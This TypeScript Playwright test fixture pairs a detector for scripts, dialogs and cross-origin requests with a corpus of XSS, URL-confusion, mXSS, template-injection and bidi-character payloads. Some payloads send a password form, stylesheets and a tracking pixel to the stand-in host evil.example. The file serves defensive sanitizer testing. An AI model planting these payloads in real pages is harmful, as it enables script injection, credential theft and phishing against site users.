/** Texts that would run, load or hide something in a page that takes them for more than text. `pwned` tells the test. */
import type { BrowserContext } from "playwright-core";

/** What has run, asked or loaded something in pages of a browser that should show only what the server of `origin` has. */
export async function alarmsIn(context: BrowserContext, origin: string): Promise<string[]> {
  const alarms: string[] = [];
  await context.exposeFunction("pwned", (by: unknown) => void alarms.push(`a script ran: ${String(by)}`));
  context.on("dialog", (dialog) => {
    alarms.push(`a dialog: ${dialog.message()}`);
    void dialog.dismiss();
  });
  context.on("request", (request) => {
    if (new URL(request.url()).origin !== origin) alarms.push(`a request: ${request.url()}`);
  });
  return alarms;
}

export const CORPUS: readonly string[] = [
  `<script>pwned("script")</script>`,
  `<img src=x onerror=pwned("img")>`,
  `<svg onload=pwned("svg")><animate onbegin=pwned("animate") attributeName=x dur=1s>`,
  `"><iframe srcdoc="<script>parent.pwned('frame')</script>"></iframe>`,
  `javascript:pwned("address")`,
  `' onmouseover='pwned("attribute")' autofocus onfocus='pwned("focus")`,
  `<a href="javascript:pwned('link')">click</a>`,
  `[click](javascript:pwned("markdown"))`,
  `![picture](x" onerror="pwned('markdown picture'))`,
  `https://example.com/"onmouseover="pwned('in a link')"`,
  `https://example.com/<script>pwned("after a link")</script>`,
  `https://example.com/?q='><img/src/onerror=pwned(1)>`,
  `https://bank.example@evil.example/`,
  `https://evil.example\\@bank.example/`,
  `hTTps://example.com/%0d%0aSet-Cookie:x=1`,
  `www.example.com/javascript:pwned(1)`,
  `data:text/html,<script>pwned("data")</script>`,
  `vbscript:pwned("vb") file:///etc/passwd blob:https://example.com/1`,
  `<style>*{background:url(https://evil.example/style)}</style><link rel=stylesheet href=https://evil.example/x.css>`,
  `<base href="https://evil.example/"><meta http-equiv=refresh content="0;url=https://evil.example/">`,
  `<form action=https://evil.example/><input name=password autofocus><button>send</button></form>`,
  `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=pwned(2)&gt;">`,
  `<template><img src=x onerror=pwned("template")></template><noscript><p title="</noscript><img src=x onerror=pwned(3)>">`,
  `<video><source onerror=pwned("video")></video><details open ontoggle=pwned("details")><object data="javascript:pwned(4)">`,
  `{{constructor.constructor("pwned(5)")()}} \${pwned(6)} <%= pwned(7) %> #{pwned(8)}`,
  `&lt;script&gt;pwned("entities")&lt;/script&gt; &#60;img src=x onerror=pwned(9)&#62;`,
  `\\u003cscript\\u003epwned("escapes")\\u003c/script\\u003e`,
  `</textarea></title></style></script><script>pwned("closing")</script>`,
  `\`<img src=x onerror=pwned("code")>\``,
  `__proto__ constructor prototype toString hasOwnProperty`,
  `\u202egnp.exe\u202c and \u2066hidden\u2069 and zero\u200bwidth`,
  `<img src=https://evil.example/pixel.gif width=1 height=1>`,
];
